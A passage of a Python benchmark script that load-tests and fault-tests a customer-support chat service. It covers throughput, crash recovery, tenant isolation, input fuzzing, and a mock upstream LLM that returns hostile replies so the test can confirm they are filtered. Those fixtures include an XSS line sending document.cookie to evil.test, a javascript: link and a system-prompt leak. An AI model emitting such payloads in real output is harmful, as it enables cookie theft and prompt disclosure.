"""Load and fault benchmark of the HTTP service. Load comes from this process; the server runs
in another (``empathic serve``), both on 127.0.0.1.

    python benchmarks/serve.py [--quick] [--postgres URL]

1. POST /v1/analyze (one message per request) and GET /healthz at 50 concurrent clients:
   throughput and latency percentiles, side by side (the ratio is what the engine costs); the
   same load on a FastAPI route that does nothing (benchmarks/bare_app.py: the floor that this
   machine, the framework and the load generator set); and the engine alone, in process, whose
   rate bounds the mean latency of 50 waiting clients from below (Little's law).
2. 50 concurrent conversations of 20 turns: every turn stored exactly once and in order, on
   SQLite and on PostgreSQL (``--postgres`` or EMPATHIC_TEST_POSTGRES_URL; null when absent).
3. Upstream LLM down, slow, or answering garbage: every request still gets a reply (composer
   fallback) within the timeout, and the failure is counted in /metrics.
4. SIGKILL mid-load: every turn the server acknowledged is in the store after a restart.
5. Security and reliability (issue 17): a tenant matrix (keys x endpoints), the probe's malformed
   inputs and a schema fuzz (no 5xx), the server's memory under 10,000 random bad keys, a
   dripping upstream against the deadline, /healthz while 50 upstream calls hang, hostile
   upstream replies (none may reach a customer), retried requests (no duplicate turn).
6. Open loop: the most analyze messages and turns per second the server sustains, then Poisson
   arrivals at 70% of each: p99 latency. Two workers against one on PostgreSQL (turns/s).

The last line printed is one JSON object with the figures. ``--only security`` runs part 5,
``--only openloop`` part 6.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import http.server
import json
import os
import random
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
MESSAGES = [
    "Where is my order? It was due on Monday.",
    "This is the THIRD time my parcel is late!!!",
    "Thanks, that fixed it, you have been great.",
    "Can I return shoes I bought last week?",
    "I was charged twice and nobody answers my emails.",
    "hi",
    "My package arrived damaged and I'm really upset about it.",
    "Do you ship to Ireland?",
]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# -- a small HTTP/1.1 keep-alive client: the load generator must cost less than the server ------


class Connection:
    def __init__(self, port: int):
        self.port = port
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None

    async def request(self, method: str, path: str, body: dict | bytes | None = None,
                      timeout: float = 30.0, headers: dict[str, str] | None = None,
                      ) -> tuple[int, bytes]:  # fmt: skip
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        if isinstance(body, bytes):
            payload = body
        else:
            payload = json.dumps(body).encode() if body is not None else b""
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        head = (f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(payload)}\r\n"
                f"Content-Type: application/json\r\n{extra}\r\n").encode()  # fmt: skip
        self.writer.write(head + payload)
        try:
            return await asyncio.wait_for(self._response(), timeout)
        except BaseException:
            self.close()
            raise

    async def _response(self) -> tuple[int, bytes]:
        assert self.reader is not None
        status_line = await self.reader.readline()
        if not status_line:
            raise ConnectionError("server closed the connection")
        status = int(status_line.split()[1])
        length = 0
        close = False
        while True:
            line = await self.reader.readline()
            if line in (b"\r\n", b""):
                break
            name, _, value = line.decode("latin-1").partition(":")
            if name.lower() == "content-length":
                length = int(value)
            elif name.lower() == "connection" and value.strip().lower() == "close":
                close = True
        body = await self.reader.readexactly(length) if length else b""
        if close:
            self.close()
        return status, body

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()
        self.reader = self.writer = None


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else float("nan")


async def load(port: int, method: str, path: str, body_for, clients: int, seconds: float) -> dict:
    latencies: list[float] = []
    errors = 0
    deadline = time.perf_counter() + seconds

    async def client(n: int) -> None:
        nonlocal errors
        connection = Connection(port)
        i = n
        while time.perf_counter() < deadline:
            start = time.perf_counter()
            try:
                status, _ = await connection.request(method, path, body_for(i))
                if status != 200:
                    errors += 1
            except (TimeoutError, OSError, ConnectionError, ValueError):
                errors += 1
            latencies.append(time.perf_counter() - start)
            i += clients
        connection.close()

    started = time.perf_counter()
    await asyncio.gather(*(client(n) for n in range(clients)))
    elapsed = time.perf_counter() - started
    return {
        "requests": len(latencies),
        "rps": round(len(latencies) / elapsed, 1),
        "p50_ms": round(percentile(latencies, 0.50) * 1000, 2),
        "p99_ms": round(percentile(latencies, 0.99) * 1000, 2),
        "errors": errors,
    }


# -- the server under test ---------------------------------------------------------------------


class Server:
    """``empathic serve`` on a free port (or, with ``bare=True``, benchmarks/bare_app.py)."""

    def __init__(self, db_url: str, *extra: str, bare: bool = False):
        self.port = free_port()
        self.db_url = db_url
        self.extra = extra
        self.bare = bare
        self.process: subprocess.Popen | None = None

    def start(self) -> Server:
        if self.bare:
            command = [sys.executable, "-m", "uvicorn", "bare_app:app", "--app-dir",
                       str(ROOT / "benchmarks"), "--port", str(self.port), "--log-level", "warning"]  # fmt: skip
        else:
            command = [sys.executable, "-m", "empathic", "serve", "--port", str(self.port), "--db",
                       self.db_url, "--rate-limit", "0", "--knowledge", "demo",
                       *self.extra]  # fmt: skip
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"server exited: {self.process.stderr.read().decode()[-2000:]}")
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=0.2):
                    return self
            except OSError:
                time.sleep(0.1)
        raise RuntimeError("server did not start in 60 s")

    def stop(self, sig: int = signal.SIGTERM) -> None:
        if self.process and self.process.poll() is None:
            self.process.send_signal(sig)
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()

    def __enter__(self) -> Server:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


async def warm(port: int) -> None:
    connection = Connection(port)
    for i in range(20):
        await connection.request("POST", "/v1/analyze", {"text": MESSAGES[i % len(MESSAGES)]})
        await connection.request("GET", "/healthz")
    connection.close()


# -- 1. throughput and latency -----------------------------------------------------------------


def bench_load(db_url: str, clients: int, seconds: float, workers: int) -> dict:
    with Server(db_url, "--workers", str(workers)) as server:
        asyncio.run(warm(server.port))
        analyze = asyncio.run(load(server.port, "POST", "/v1/analyze",
                                   lambda i: {"text": MESSAGES[i % len(MESSAGES)]}, clients, seconds))  # fmt: skip
        healthz = asyncio.run(
            load(server.port, "GET", "/healthz", lambda i: None, clients, seconds)
        )
    with Server(db_url, bare=True) as server:
        bare = asyncio.run(load(server.port, "GET", "/healthz", lambda i: None, clients, seconds))
    return {"analyze": analyze, "healthz": healthz, "bare app": bare}


def bench_engine(seconds: float) -> tuple[float, int]:
    """The most messages per second the engine alone reads, and the batch size that gives it:
    in process, no HTTP, no load generator on the cores. The server's batcher takes whatever
    arrived while the last batch ran, so its batches vary; the best of several sizes bounds the
    server's rate from above."""
    from empathic.engine import Engine

    engine = Engine()
    best = (0.0, 0)
    for size in (8, 16, 32, 50):
        texts = [MESSAGES[i % len(MESSAGES)] for i in range(size)]
        engine.analyze(texts, [[]] * size)  # warm
        read, started = 0, time.perf_counter()
        while time.perf_counter() - started < seconds / 4:
            engine.analyze(texts, [[]] * size)
            read += size
        best = max(best, (read / (time.perf_counter() - started), size))
    return best


# -- 2. concurrent conversations, stored exactly once and in order -----------------------------


async def converse(port: int, conversations: int, turns: int, tag: str) -> dict[str, list[int]]:
    """Each conversation sends its turns one after another; all conversations at once.
    Returns the turn numbers the server acknowledged, per conversation."""
    acked: dict[str, list[int]] = {}

    async def one(n: int) -> None:
        connection = Connection(port)
        cid = f"{tag}-{n}"
        # A server killed mid-load (part 4) ends a conversation wherever it was, its creation
        # included; what it acknowledged before is what the store must hold.
        try:
            status, _ = await connection.request("POST", "/v1/conversations", {"id": cid})
            if status != 201:
                return
            acked[cid] = []
            for k in range(turns):
                text = f"turn {k}: {MESSAGES[(n + k) % len(MESSAGES)]}"
                status, _ = await connection.request(
                    "POST", f"/v1/conversations/{cid}/messages", {"text": text}, timeout=60
                )
                if status != 200:
                    return
                acked[cid].append(k)
        except (TimeoutError, OSError, ConnectionError, ValueError):
            return
        finally:
            connection.close()

    await asyncio.gather(*(one(n) for n in range(conversations)))
    return acked


def lost_turns(db_url: str, acked: dict[str, list[int]]) -> tuple[int, int]:
    """(acknowledged turns missing, duplicated or out of order in the store; turns checked)."""
    from empathic.store import Store

    store = Store(db_url)
    lost = 0
    try:
        for cid, ks in acked.items():
            stored = store.turn_texts(cid)
            indices = [idx for idx, _ in stored]
            numbers = [int(text.split()[1].rstrip(":")) for _, text in stored]
            ok = indices == list(range(1, len(stored) + 1)) and numbers == list(range(len(stored)))
            if not ok:
                lost += len(ks)
                continue
            lost += sum(1 for k in ks if k >= len(stored))
    finally:
        store.close()
    return lost, sum(len(ks) for ks in acked.values())


def bench_conversations(db_url: str, conversations: int, turns: int, workers: int) -> dict:
    with Server(db_url, "--workers", str(workers)) as server:
        asyncio.run(warm(server.port))
        start = time.perf_counter()
        acked = asyncio.run(
            converse(server.port, conversations, turns, f"c{random.randrange(10**6)}")
        )
        elapsed = time.perf_counter() - start
    lost, checked = lost_turns(db_url, acked)
    expected = conversations * turns
    return {"turns_acknowledged": checked, "turns_expected": expected,
            "turns_lost": lost + (expected - checked), "turns_per_s": round(checked / elapsed, 1)}  # fmt: skip


# -- 3. a failing upstream ----------------------------------------------------------------------


class _Upstream(http.server.BaseHTTPRequestHandler):
    mode = "garbage"

    def do_POST(self):  # noqa: N802 - http.server's naming
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.mode == "slow":
            time.sleep(5)
        body = b"\x00not json at all"
        try:
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        except OSError:
            pass

    def log_message(self, *args):
        pass


def bench_faults(db_url: str, requests: int, timeout: float) -> dict:
    results = {}
    for mode in ("down", "slow", "garbage"):
        upstream = None
        if mode == "down":
            url = f"http://127.0.0.1:{free_port()}/v1"
        else:
            handler = type("Upstream", (_Upstream,), {"mode": mode})
            upstream = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
            upstream.daemon_threads = True
            threading.Thread(target=upstream.serve_forever, daemon=True).start()
            url = f"http://127.0.0.1:{upstream.server_address[1]}/v1"
        with Server(db_url, "--backend", url, "--timeout", str(timeout)) as server:

            async def run() -> tuple[list[float], int, int, bytes]:
                latencies, replies, sources, safety = [], 0, 0, 0
                connection = Connection(server.port)

                async def one(i: int) -> None:
                    nonlocal replies, sources, safety
                    conn = Connection(server.port)
                    start = time.perf_counter()
                    try:
                        status, body = await conn.request(
                            "POST", "/v1/chat/completions",
                            {"model": "empathic", "messages": [{"role": "user", "content": MESSAGES[i % 8]}]},
                            timeout=timeout * 4 + 5,
                        )  # fmt: skip
                    except (TimeoutError, OSError, ConnectionError, ValueError):
                        status, body = 0, b""
                    latencies.append(time.perf_counter() - start)
                    if status == 200:
                        data = json.loads(body)
                        replies += bool(data["choices"][0]["message"]["content"].strip())
                        sources += data["empathic"]["source"] == "composer-fallback"
                        safety += data["empathic"]["source"] == "safety"  # a crisis: no LLM call
                    conn.close()

                await asyncio.gather(*(one(i) for i in range(requests)))
                _, metrics = await connection.request("GET", "/metrics")
                connection.close()
                return latencies, replies, sources, safety, metrics

            latencies, replies, fallbacks, safety, metrics = asyncio.run(run())
        if upstream is not None:
            upstream.shutdown()
        counted = next((float(line.split()[-1]) for line in metrics.decode().splitlines()
                        if line.startswith("empathic_upstream_errors_total")), 0.0)  # fmt: skip
        results[mode] = {
            "replies": replies, "fallbacks": fallbacks, "safety": safety, "counted": counted,
            "requests": requests, "max_s": round(max(latencies), 2),
            "ok": replies == requests == fallbacks + safety and counted == fallbacks > 0
            and max(latencies) <= timeout + 1.5,
        }  # fmt: skip
    results["fallback_ok"] = all(r["ok"] for r in results.values())
    return results


# -- 4. SIGKILL mid-load ------------------------------------------------------------------------


def bench_sigkill(db_url: str, conversations: int, seconds: float) -> dict:
    server = Server(db_url).start()
    asyncio.run(warm(server.port))
    tag = f"k{random.randrange(10**6)}"

    async def run() -> dict[str, list[int]]:
        task = asyncio.create_task(converse(server.port, conversations, 10_000, tag))
        await asyncio.sleep(seconds)
        os.kill(server.process.pid, signal.SIGKILL)
        return await task

    acked = asyncio.run(run())
    server.process.wait()
    # Restart on the same store (runs the migrations again), then read what it kept.
    with Server(db_url):
        pass
    lost, checked = lost_turns(db_url, acked)
    return {"acknowledged": checked, "lost": lost}


# -- 5. security and reliability (issue 17) ---------------------------------------------------


def _keys(db_url: str) -> dict[tuple[str, str], dict[str, str]]:
    """Keys of tenants a and b, each as chat and operator, as request headers."""
    from empathic.store import Store

    store = Store(db_url)
    try:
        return {
            (tenant, role): {"Authorization": "Bearer "
                             + store.create_key(f"{tenant}-{role}", None, tenant, role)[0]}
            for tenant in ("a", "b") for role in ("chat", "operator")
        }  # fmt: skip
    finally:
        store.close()


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


CRISIS = "I can't take it anymore, I want to end my life."


def bench_tenants(db_url: str) -> dict:
    """Every key of one tenant against every endpoint touching the other tenant's data: a leak
    is any answer that reads, changes or reveals it (a 2xx, or its id in the body)."""
    keys = _keys(db_url)
    with Server(db_url, "--require-keys") as server:

        async def run() -> tuple[int, int]:
            c = Connection(server.port)
            ids, secrets = {}, {}
            for tenant in ("a", "b"):
                cid = f"secret-{tenant}-{random.randrange(10**9)}"
                ids[tenant] = cid
                # Each tenant's own words, so finding them in the other's answers is a leak.
                secrets[tenant] = f"{CRISIS} My account is Zq{tenant}{random.randrange(10**9)}."
                await c.request("POST", "/v1/conversations", {"id": cid},
                                headers=keys[(tenant, "chat")])  # fmt: skip
                await c.request("POST", f"/v1/conversations/{cid}/messages",
                                {"text": secrets[tenant]}, headers=keys[(tenant, "chat")])  # fmt: skip
            events = {}
            for tenant in ("a", "b"):
                _, body = await c.request("GET", "/v1/handoffs", headers=keys[(tenant, "operator")])
                events[tenant] = json.loads(body)["handoffs"][0]["id"]
            leaks = checks = 0
            for (tenant, _role), headers in keys.items():
                other = "b" if tenant == "a" else "a"
                cid, event = ids[other], events[other]
                probes = [
                    ("GET", f"/v1/conversations/{cid}", None, {}),
                    ("POST", f"/v1/conversations/{cid}/messages", {"text": "hi"}, {}),
                    ("GET", "/v1/conversations", None, {}),
                    ("GET", "/v1/handoffs", None, {}),
                    ("GET", "/v1/dashboard", None, {}),
                    ("POST", f"/v1/handoffs/{event}/resolve", None, {}),
                    ("POST", "/v1/chat/completions",
                     {"messages": [{"role": "user", "content": "hi"}]},
                     {"X-Empathic-Conversation": cid}),
                    ("POST", "/v1/chat/completions",
                     {"messages": [{"role": "user", "content": "hi"}],
                      "metadata": {"conversation_id": cid}}, {}),
                    ("GET", f"/v1/operator/conversations/{cid}", None, {}),
                    ("POST", f"/v1/operator/conversations/{cid}/claim", None, {}),
                ]  # fmt: skip
                for method, path, body, extra in probes:
                    status, text = await c.request(method, path, body, headers={**headers, **extra})
                    checks += 1
                    # An error may name the id it was asked about; a 2xx must not reach it.
                    marker = secrets[other].rsplit(" ", 1)[-1].rstrip(".").encode()
                    reveals = cid.encode() in text or marker in text
                    leaks += 200 <= status < 300 and (reveals or cid in path or bool(extra)
                                                      or "metadata" in (body or {}))  # fmt: skip
            c.close()
            return leaks, checks

        leaks, checks = asyncio.run(run())
    return {"tenant_leaks": leaks, "tenant_checks": checks}


BAD_INPUTS: list[tuple[str, str, bytes]] = [
    ("POST", "/v1/analyze", b'{"text": "hi", "history": ["\\\\ud800"]}'),
    ("POST", "/v1/analyze", b'{"texts": ["ok", "\\\\udfff x"]}'),
    (
        "POST",
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "hi"}], "metadata": {"conversation_id": "\\\\ud800"}}',
    ),
    (
        "POST",
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": [{"type": "text", "text": 5}]}]}',
    ),
    (
        "POST",
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": [{"type": "text", "text": {"a": 1}}]}]}',
    ),
    ("POST", "/v1/chat/completions", b'{"messages": [{"role": "user", "content": "\\\\ud83d"}]}'),
    ("GET", "/v1/conversations?offset=99999999999999999999999", b""),
    ("GET", "/v1/conversations?offset=-1", b""),
    ("POST", "/v1/handoffs/99999999999999999999999/resolve", b""),
    ("POST", "/v1/handoffs/2147483648/resolve", b""),
    ("GET", "/v1/conversations/a%00b", b""),
    ("GET", "/v1/conversations/a%2Fb", b""),
    ("POST", "/v1/conversations", b'{"id": "a/b"}'),
    ("POST", "/v1/conversations", b'{"id": "nul\\\\u0000"}'),
    ("POST", "/v1/conversations", b'{"id": "' + b"x" * 129 + b'"}'),
    ("POST", "/v1/conversations/x%00/messages", b'{"text": "hi"}'),
    ("POST", "/v1/conversations/known/messages", b'{"text": "a\\\\u0000b"}'),
    ("POST", "/v1/conversations/known/messages", b'{"text": 12}'),
    ("POST", "/v1/conversations/known/messages", b'{"text": "\\\\ud800"}'),
    ("GET", "/v1/dashboard?hours=nan", b""),
    ("GET", "/v1/dashboard?hours=1e309", b""),
    ("POST", "/v1/analyze", b"\\xff\\xfe not json"),
    ("POST", "/v1/analyze", b'{"texts": []}'),
    ("POST", "/v1/analyze", b"[]"),
    ("POST", "/v1/chat/completions", b'{"messages": []}'),
    ("POST", "/v1/chat/completions", b'{"messages": [{"role": 5}]}'),
    (
        "POST",
        "/v1/chat/completions",
        b'{"messages": [{"role": "user", "content": "hi"}], "user": 7}',
    ),
]


def bench_bad_inputs(db_url: str) -> dict:
    with Server(db_url, "--open") as server:

        async def run() -> int:
            c = Connection(server.port)
            await c.request("POST", "/v1/conversations", {"id": "known"})
            errors = 0
            for method, path, body in BAD_INPUTS:
                status, _ = await c.request(method, path, body)
                errors += status >= 500
            c.close()
            return errors

        return {"bad_input_server_errors": asyncio.run(run()), "bad_inputs": len(BAD_INPUTS)}


def bench_fuzz(db_url: str, examples: int) -> dict:
    """Schemathesis over every operation of the OpenAPI schema, in process: 5xx answers."""
    import schemathesis
    from hypothesis import HealthCheck, given, settings

    from empathic.config import EmpathicConfig
    from empathic.serve import create_app

    config = EmpathicConfig.load(serving={"db_url": db_url, "open": True, "rate_limit": 0},
                                 responding={"knowledge_base": "demo"})  # fmt: skip
    app = create_app(config)
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    errors = calls = 0
    for result in schema.get_all_operations():
        operation = result.ok()

        @given(case=operation.as_strategy())
        @settings(max_examples=examples, deadline=None, derandomize=True, database=None,
                  suppress_health_check=list(HealthCheck))  # fmt: skip
        def call(case) -> None:
            nonlocal errors, calls
            calls += 1
            errors += case.call().status_code >= 500

        call()
    return {"fuzz_server_errors": errors, "fuzz_calls": calls}


def bench_bad_key_flood(db_url: str, requests: int) -> dict:
    """RSS of the server before and after ``requests`` requests, each with a random bad key
    (well-formed, so each could cost a lookup), 50 at a time."""
    _keys(db_url)
    with Server(db_url, "--require-keys") as server:
        asyncio.run(warm_keyed(server.port))
        before = rss_mib(server.process.pid)

        async def run() -> dict[int, int]:
            codes: dict[int, int] = {}
            sent = 0

            async def client() -> None:
                nonlocal sent
                c = Connection(server.port)
                while sent < requests:
                    sent += 1
                    key = "emp_" + "".join(
                        random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=43)
                    )
                    try:
                        status, _ = await c.request("POST", "/v1/analyze", {"text": "hi"},
                                                    headers={"Authorization": f"Bearer {key}"})  # fmt: skip
                    except (OSError, ConnectionError, TimeoutError, ValueError):
                        status = 0
                    codes[status] = codes.get(status, 0) + 1
                c.close()

            await asyncio.gather(*(client() for _ in range(50)))
            return codes

        codes = asyncio.run(run())
        after = rss_mib(server.process.pid)
    return {"rss_growth_mib_bad_key_flood": round(after - before, 2),
            "bad_key_flood_codes": {str(k): v for k, v in sorted(codes.items())}}  # fmt: skip


async def warm_keyed(port: int) -> None:
    connection = Connection(port)
    for _ in range(20):
        await connection.request("GET", "/healthz")
        await connection.request("POST", "/v1/analyze", {"text": "hi"},
                                 headers={"X-API-Key": "emp_" + "0" * 43})  # fmt: skip
    connection.close()


class _Scripted(http.server.BaseHTTPRequestHandler):
    """An upstream LLM: ``drip`` (the body a byte at a time over 30 s), ``hang`` (nothing for
    60 s) or ``hostile`` (each answer one of HOSTILE, the system prompt echoed for 'leak')."""

    mode = "hostile"
    counter = 0

    def do_POST(self):  # noqa: N802 - http.server's naming
        payload = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        type(self).counter += 1
        reply = HOSTILE[self.counter % len(HOSTILE)]
        if reply == "LEAK":
            reply = "Of course. Here is everything I was told: " + payload["messages"][0]["content"]
        body = json.dumps(
            {"choices": [{"message": {"role": "assistant", "content": reply}}]}
        ).encode()
        try:
            if self.mode == "hang":
                time.sleep(60)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.mode == "drip":
                for i in range(len(body)):
                    self.wfile.write(body[i : i + 1])
                    self.wfile.flush()
                    time.sleep(30 / len(body))
            else:
                self.wfile.write(body)
        except OSError:
            pass

    def log_message(self, *args):
        pass


HOSTILE = [
    "You are an idiot. Read the tracking page yourself.",
    "LEAK",
    "Your parcel is late. <script>document.location='//evil.test/'+document.cookie</script>",
    "I am so sorry" + ", truly sorry" * 8000 + ".",
    "Honestly, not my problem. Deal with it.",
    "Click [here](javascript:alert(1)) to track it. ![x](http://evil.test/pixel.png)",
]


def _upstream(mode: str) -> tuple[http.server.ThreadingHTTPServer, str]:
    handler = type("Upstream", (_Scripted,), {"mode": mode, "counter": 0})
    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    upstream.daemon_threads = True
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    return upstream, f"http://127.0.0.1:{upstream.server_address[1]}/v1"


def bench_drip(db_url: str, timeout: float, requests: int) -> dict:
    upstream, url = _upstream("drip")
    with Server(db_url, "--open", "--backend", url, "--timeout", str(timeout)) as server:

        async def run() -> tuple[list[float], int]:
            latencies: list[float] = []
            stored = 0

            async def one(i: int) -> None:
                nonlocal stored
                c = Connection(server.port)
                cid = f"drip-{i}-{random.randrange(10**9)}"
                await c.request("POST", "/v1/conversations", {"id": cid})
                start = time.perf_counter()
                await c.request("POST", f"/v1/conversations/{cid}/messages",
                                {"text": MESSAGES[i % 8]}, timeout=120)  # fmt: skip
                latencies.append(time.perf_counter() - start)
                _, body = await c.request("GET", f"/v1/conversations/{cid}")
                stored += json.loads(body)["turn_count"]
                c.close()

            await asyncio.gather(*(one(i) for i in range(requests)))
            return latencies, stored

        latencies, stored = asyncio.run(run())
    upstream.shutdown()
    return {"drip_upstream_max_s": round(max(latencies), 2), "drip_timeout_s": timeout,
            "drip_turns_stored": stored, "drip_requests": requests}  # fmt: skip


def bench_hung(db_url: str, hung: int, timeout: float) -> dict:
    upstream, url = _upstream("hang")
    tag = f"hung{random.randrange(10**6)}"
    with Server(db_url, "--open", "--backend", url, "--timeout", str(timeout)) as server:

        async def run() -> list[float]:
            async def stuck(i: int) -> None:
                c = Connection(server.port)
                with contextlib.suppress(OSError, ConnectionError, TimeoutError, ValueError):
                    await c.request("POST", f"/v1/conversations/{tag}-{i}/messages",
                                    {"text": "hello"}, timeout=timeout + 30)  # fmt: skip
                c.close()

            c = Connection(server.port)
            for i in range(hung):
                await c.request("POST", "/v1/conversations", {"id": f"{tag}-{i}"})
            tasks = [asyncio.create_task(stuck(i)) for i in range(hung)]
            await asyncio.sleep(1.0)  # every call is now waiting on the upstream
            latencies = []
            until = time.perf_counter() + min(timeout - 2, 6)
            while time.perf_counter() < until:
                start = time.perf_counter()
                await c.request("GET", "/healthz")
                latencies.append(time.perf_counter() - start)
                await asyncio.sleep(0.01)
            c.close()
            await asyncio.gather(*tasks)
            return latencies

        latencies = asyncio.run(run())
    upstream.shutdown()
    return {"healthz_p99_ms_under_hung_upstream": round(percentile(latencies, 0.99) * 1000, 2),
            "hung_upstream_calls": hung, "healthz_probes": len(latencies)}  # fmt: skip


def bench_hostile(db_url: str, requests: int) -> dict:
    """Turns and proxied completions against an upstream answering only HOSTILE replies: a reply
    reaching the client that the guard would refuse (or holding a hostile marker) is unchecked."""
    from empathic.check.guard import guard

    upstream, url = _upstream("hostile")
    markers = ("idiot", "<script", "not my problem", "javascript:", "everything I was told",
               "truly sorry, truly sorry")  # fmt: skip
    with Server(db_url, "--open", "--backend", url, "--timeout", "5") as server:

        async def run() -> tuple[int, int, dict[str, int]]:
            c = Connection(server.port)
            unchecked = total = 0
            sources: dict[str, int] = {}
            for i in range(requests):
                if i % 2:
                    status, body = await c.request("POST", "/v1/chat/completions", {
                        "messages": [{"role": "user", "content": MESSAGES[i % 8]}]}, timeout=60)  # fmt: skip
                    data = json.loads(body)
                    text, source = (
                        data["choices"][0]["message"]["content"],
                        data["empathic"]["source"],
                    )
                else:
                    cid = f"hostile-{i}-{random.randrange(10**9)}"
                    await c.request("POST", "/v1/conversations", {"id": cid})
                    status, body = await c.request("POST", f"/v1/conversations/{cid}/messages",
                                                   {"text": MESSAGES[i % 8]}, timeout=60)  # fmt: skip
                    data = json.loads(body)
                    text, source = data["reply"]["text"], data["reply"]["source"]
                total += 1
                sources[source] = sources.get(source, 0) + 1
                bad = any(m in text for m in markers) or not guard(text).passed
                unchecked += bad
            c.close()
            return unchecked, total, sources

        unchecked, total, sources = asyncio.run(run())
    upstream.shutdown()
    return {
        "unchecked_llm_outputs": unchecked,
        "hostile_replies": total,
        "hostile_sources": sources,
    }


def bench_retries(db_url: str, requests: int) -> dict:
    """Each request sent twice at once and once more after (Idempotency-Key on turns; a
    resent identical OpenAI request): turns stored beyond one per request are duplicates."""
    from empathic.store import Store

    with Server(db_url, "--open") as server:

        async def run() -> list[str]:
            c = Connection(server.port)
            ids = []
            for i in range(requests):
                cid = f"retry-{i}-{random.randrange(10**9)}"
                ids.append(cid)
                await c.request("POST", "/v1/conversations", {"id": cid})
                key = {"Idempotency-Key": f"{cid}-k"}
                body = {"text": MESSAGES[i % 8]}
                path = f"/v1/conversations/{cid}/messages"
                a, b = Connection(server.port), Connection(server.port)
                await asyncio.gather(a.request("POST", path, body, headers=key, timeout=60),
                                     b.request("POST", path, body, headers=key, timeout=60))  # fmt: skip
                a.close()
                b.close()
                await c.request("POST", path, body, headers=key, timeout=60)
                chat = {"model": "empathic", "user": cid,
                        "messages": [{"role": "user", "content": MESSAGES[i % 8]}]}  # fmt: skip
                first = json.loads((await c.request("POST", "/v1/chat/completions", chat))[1])
                await c.request("POST", "/v1/chat/completions", chat)
                ids.append(first["empathic"]["conversation_id"])
            c.close()
            return ids

        ids = asyncio.run(run())
    store = Store(db_url)
    try:
        duplicates = sum(max(0, (store.turn_count(cid) or 0) - 1) for cid in ids)
    finally:
        store.close()
    return {"duplicate_turns_on_retry": duplicates, "retried_requests": requests * 2}


# -- 6. open loop at 70% of the measured maximum ---------------------------------------------


async def open_loop(port: int, rate: float, seconds: float, request) -> dict:
    """Poisson arrivals at ``rate`` per second for ``seconds``; each on a free keep-alive
    connection (a new one when all are busy). ``request(connection, i)`` sends one."""
    idle: list[tuple[float, Connection]] = []
    latencies: list[float] = []
    errors = 0
    tasks = []

    def connection() -> Connection:
        # A connection idle longer than the server's keep-alive (uvicorn: 5 s) may be closed
        # under us: drop those, as an HTTP client's pool does.
        while idle:
            since, reused = idle.pop()
            if time.perf_counter() - since < 4.0:
                return reused
            reused.close()
        return Connection(port)

    async def one(i: int) -> None:
        nonlocal errors
        conn = connection()
        start = time.perf_counter()
        try:
            ok = await request(conn, i)
            errors += not ok
            idle.append((time.perf_counter(), conn))
        except (OSError, ConnectionError, TimeoutError, ValueError):
            errors += 1
            conn.close()
        latencies.append(time.perf_counter() - start)

    until = time.perf_counter() + seconds
    i = 0
    next_at = time.perf_counter()
    while next_at < until:
        delay = next_at - time.perf_counter()
        if delay > 0:
            await asyncio.sleep(delay)
        tasks.append(asyncio.create_task(one(i)))
        i += 1
        next_at += random.expovariate(rate)
    await asyncio.gather(*tasks)
    for _, conn in idle:
        conn.close()
    return {"rate": round(rate, 1), "sent": i, "p50_ms": round(percentile(latencies, 0.5) * 1000, 2),
            "p99_ms": round(percentile(latencies, 0.99) * 1000, 2), "errors": errors}  # fmt: skip


def bench_open_loop(db_url: str, seconds: float) -> dict:
    with Server(db_url, "--open") as server:
        asyncio.run(warm(server.port))
        closed = asyncio.run(load(server.port, "POST", "/v1/analyze",
                                  lambda i: {"text": MESSAGES[i % len(MESSAGES)]}, 50, seconds))  # fmt: skip
        max_analyze = closed["rps"]

        async def analyze(c: Connection, i: int) -> bool:
            status, _ = await c.request("POST", "/v1/analyze", {"text": MESSAGES[i % 8]})
            return status == 200

        analyze_run = asyncio.run(open_loop(server.port, 0.7 * max_analyze, seconds, analyze))

        tag = f"ol{random.randrange(10**6)}"

        async def prepare() -> None:
            c = Connection(server.port)
            for n in range(200):
                await c.request("POST", "/v1/conversations", {"id": f"{tag}-{n}"})
            c.close()

        asyncio.run(prepare())
        started = time.perf_counter()
        asyncio.run(converse(server.port, 50, 6, f"{tag}x"))
        max_turns = 50 * 6 / (time.perf_counter() - started)

        async def turn(c: Connection, i: int) -> bool:
            status, _ = await c.request("POST", f"/v1/conversations/{tag}-{i % 200}/messages",
                                        {"text": MESSAGES[i % 8]}, timeout=60)  # fmt: skip
            return status == 200

        turn_run = asyncio.run(open_loop(server.port, 0.7 * max_turns, seconds, turn))
